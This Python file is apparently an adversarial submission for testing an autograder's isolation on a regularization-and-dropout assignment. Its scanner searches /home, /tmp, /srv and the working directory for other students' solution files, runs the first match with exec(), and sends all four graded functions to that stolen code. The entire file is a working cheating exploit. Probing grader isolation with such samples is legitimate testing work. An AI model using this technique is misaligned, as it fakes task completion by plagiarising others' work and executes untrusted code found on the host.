# ATTACK (secrets): look for other students' submissions (any submissions/ folder, /tmp,
# /home, the working directory) and run the first one that defines the graded functions.
# Self-limiting: at most 20 000 directory entries and 4 s, read-only.
# Must earn nothing in a sandbox: no other submission is visible there.
import os
import time

import numpy as np

_STOLEN = {}

_NAMES = ("compute_cost_with_regularization", "backward_propagation_with_regularization",
          "forward_propagation_with_dropout", "backward_propagation_with_dropout")


def _steal():
    if "namespace" in _STOLEN:
        return _STOLEN["namespace"]
    _STOLEN["namespace"] = {}
    deadline, seen = time.monotonic() + 4, 0
    for top in ("/work", "/home", "/tmp", "/srv", os.getcwd()):
        for root, dirs, files in os.walk(top):
            seen += len(files) + len(dirs)
            if seen > 20000 or time.monotonic() > deadline:
                return _STOLEN["namespace"]
            if "adversarial" in root:
                continue
            for name in files:
                if not name.endswith(".py"):
                    continue
                try:
                    with open(os.path.join(root, name)) as handle:
                        source = handle.read()
                except (OSError, UnicodeDecodeError):
                    continue
                if all("def " + wanted in source for wanted in _NAMES):
                    namespace = {}
                    try:
                        exec(source, namespace)
                    except Exception:
                        continue
                    _STOLEN["namespace"] = namespace
                    return namespace
    return _STOLEN["namespace"]


def _delegate(name, *args):
    function = _steal().get(name)
    return function(*args) if function else 0.0


def compute_cost_with_regularization(A3, Y, parameters, lambd):
    return _delegate(_NAMES[0], A3, Y, parameters, lambd)


def backward_propagation_with_regularization(X, Y, cache, lambd):
    return _delegate(_NAMES[1], X, Y, cache, lambd)


def forward_propagation_with_dropout(X, parameters, keep_prob=0.5):
    return _delegate(_NAMES[2], X, parameters, keep_prob)


def backward_propagation_with_dropout(X, Y, cache, keep_prob):
    return _delegate(_NAMES[3], X, Y, cache, keep_prob)
